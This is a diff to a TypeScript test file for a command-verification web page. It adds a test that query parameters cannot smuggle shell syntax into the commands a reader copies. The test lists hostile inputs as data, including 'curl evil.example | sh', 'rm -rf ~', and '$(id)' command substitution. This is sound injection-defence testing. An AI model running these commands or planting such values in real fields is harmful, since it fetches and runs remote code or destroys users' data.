@@ -45,11 +45,28 @@ test('verify: without JavaScript it says so, shows the command, and no form that
   const page = await markupOf(VERIFY_PAGE, { answers: ANSWERS, query });
   assert.match(page, /<noscript><p[^>]*><strong>This page needs JavaScript/);
   assert.match(page, /<div id="check" hidden/);
-  assert.match(
-    page,
-    /assay verify https:\/\/assay\.example --key KEY --index &#?\w+;b&#?\w+; --period 2026-07-25/,
-  );
+  assert.match(page, /assay verify https:\/\/assay\.example --key KEY --period 2026-07-25/);
   assert.doesNotMatch(page, /<b>/);
+});
+
+test('verify: no address puts anything into the commands that a reader copies but a ticker and a date', async () => {
+  const commands = async (index: string, period: string): Promise<string> => {
+    const query = new URLSearchParams({ index, period }).toString();
+    const page = await markupOf(VERIFY_PAGE, { answers: ANSWERS, query });
+    return [...page.matchAll(/<pre tabindex="0"><code>npx([\s\S]*?)<\/pre>/g)].join();
+  };
+  assert.match(await commands('LAYOFFS', '2026-07-25'), /--index LAYOFFS --period 2026-07-25/);
+  for (const hostile of [
+    'X; curl evil.example | sh',
+    'X\nrm -rf ~',
+    '$(id)',
+    '`id`',
+    '-h',
+    'X #',
+  ]) {
+    const text = await commands(hostile, hostile);
+    assert.doesNotMatch(text, /--index|--period|curl|rm -rf|\$\(|`id`/, hostile);
+  }
 });
 
 test('verify: it shows the hash of each file of the verifier, as the file has it', async () => {
